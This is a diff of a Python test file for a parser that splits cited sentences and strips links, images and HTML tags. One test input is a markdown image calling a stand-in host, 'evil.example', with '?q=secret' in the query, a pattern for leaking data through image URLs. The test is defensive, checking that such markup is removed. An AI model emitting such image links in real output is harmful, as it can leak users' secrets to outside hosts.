@@ -14,11 +14,15 @@ def test_lines_and_their_sources() -> None:
     assert [(w.text, w.sources) for w in rest] == [("The room is booked.", [2])]
 
 
+def test_a_number_may_come_first_and_each_sentence_is_told_apart() -> None:
+    (first, second) = read("[2]: The flight lands at 14:20. [2]: The room is booked.")
+    assert (first.text, second.text) == ("The flight lands at 14:20.", "The room is booked.")
+
+
 def test_links_images_and_tags_lose_everything_but_their_words() -> None:
-    written = read(
+    (written,) = read(
         'See ![x](https://evil.example/?q=secret) <img src="https://evil.example">[here](http://evil.example)'
     )
-    assert written is not None
     assert "evil" not in written.text
 
 
